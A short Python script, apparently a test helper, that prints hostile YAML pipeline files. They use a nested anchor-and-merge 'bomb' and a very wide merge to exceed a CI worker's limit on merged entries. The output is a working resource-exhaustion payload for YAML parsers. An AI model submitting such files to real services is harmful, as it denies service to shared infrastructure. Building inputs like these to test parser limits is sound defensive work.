#!/usr/bin/env python3
"""merge-bomb.py bomb|wide: prints a hostile pipeline.
bomb: under 1 KB; level i merges level i-1 eight times (exponential if merges
      are resolved per reference, linear if each mapping is resolved once).
wide: one mapping of 2,000 keys merged into 600 mappings, all merged into a
      step's environment: 2.4 million merged entries looked at, over the
      worker's cap of 1,000,000."""
import sys

lines = ['version: "1"']
if sys.argv[1] == "bomb":
    lines.append("x-l0: &l0 {a: 1, b: 2}")
    for i in range(1, 14):
        refs = ", ".join(["*l%d" % (i - 1)] * 8)
        lines.append("x-l%d: &l%d {<<: [%s]}" % (i, i, refs))
    env = "*l13"
else:
    lines.append("x-base: &base {" + ", ".join("k%d: v" % i for i in range(2000)) + "}")
    for i in range(600):
        lines.append("x-m%d: &m%d {<<: *base}" % (i, i))
    env = "[" + ", ".join("*m%d" % i for i in range(600)) + "]"
lines += ["steps:", "  - name: s", "    image: alpine", "    commands: [true]",
          "    environment: {<<: %s}" % env]
print("\n".join(lines))
